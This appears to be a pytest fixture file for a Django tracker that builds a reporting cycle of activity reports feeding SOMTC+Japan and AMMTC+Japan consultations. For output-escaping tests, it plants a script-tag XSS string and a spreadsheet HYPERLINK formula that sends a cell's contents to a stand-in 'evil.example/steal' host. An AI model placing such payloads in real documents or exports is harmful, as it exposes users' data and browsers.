"""A reporting cycle with something of everything a consultation document shows: accepted
reports, one pending review, one returned, a draft, a late one, an activity nobody reported on,
a delayed one, text with markup and a formula in it, and the cycle before it."""

import datetime
from dataclasses import dataclass

import pytest
from django.utils import timezone

from ammtc_tracker.models import Role
from priorities.models import Consultation
from tests.factories import file_report, make_activity, make_cycle, make_user

SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")'


@dataclass
class Meeting:
    cycle: object
    previous: object
    somtc: object
    ammtc: object
    activities: dict


@pytest.fixture
def official_th(reference):
    return make_user("official.th", Role.OFFICIAL, "TH")


@pytest.fixture
def meeting(plan, official_id, official_jp, official_th, secretariat):
    """The cycle "This year" (and "Last year" before it), feeding a SOMTC+Japan and an
    AMMTC+Japan meeting."""
    activities = {
        "1.1": make_activity(plan, "1.1", leads=["ID"], participants=["JP"]),
        "2.1": make_activity(plan, "2.1", leads=["JP"]),
        "3.1": make_activity(plan, "3.1", leads=["ID"], participants=["JP", "TH"]),
        "4.1": make_activity(plan, "4.1", leads=["TH"], indicators=2),
        "5.1": make_activity(plan, "5.1", leads=["JP"]),
    }
    a = activities
    today = timezone.localdate()
    previous = make_cycle(
        plan,
        title="Last year",
        period_start=datetime.date(today.year - 2, 7, 1),
        period_end=datetime.date(today.year - 1, 6, 30),
    )
    file_report(official_id, a["1.1"], previous, "accepted", secretariat, percent=10)
    file_report(
        official_jp,
        a["2.1"],
        previous,
        "accepted",
        secretariat,
        status="not_started",
        percent=0,
    )
    cycle = make_cycle(plan, title="This year")
    file_report(
        official_id,
        a["1.1"],
        cycle,
        "accepted",
        secretariat,
        achievements=f"Trained 25 investigators. {SCRIPT}",
        challenges=FORMULA,
        next_steps="@SUM(1+1)",
        value=25,
    )
    file_report(official_jp, a["1.1"], cycle, "submitted", percent=20, value=7)
    file_report(
        official_jp,
        a["2.1"],
        cycle,
        "returned",
        secretariat,
        status="delayed",
        percent=5,
    )
    file_report(official_id, a["3.1"], cycle, "draft", percent=50)
    file_report(
        official_jp,
        a["3.1"],
        cycle,
        "accepted",
        secretariat,
        late=True,
        status="completed",
        percent=100,
        achievements="Handbook published.",
    )
    file_report(
        official_jp,
        a["5.1"],
        cycle,
        "accepted",
        secretariat,
        status="delayed",
        percent=15,
        achievements="Venue booked.",
        challenges="Funding arrived late.",
    )
    somtc = Consultation.objects.create(
        series=Consultation.Series.SOMTC_JAPAN,
        ordinal=99,
        date=today + datetime.timedelta(days=40),
        city="Jakarta",
    )
    ammtc = Consultation.objects.create(
        series=Consultation.Series.AMMTC_JAPAN,
        ordinal=99,
        date=today + datetime.timedelta(days=41),
        city="Jakarta",
    )
    cycle.consultations.set([somtc, ammtc])
    return Meeting(cycle, previous, somtc, ammtc, activities)
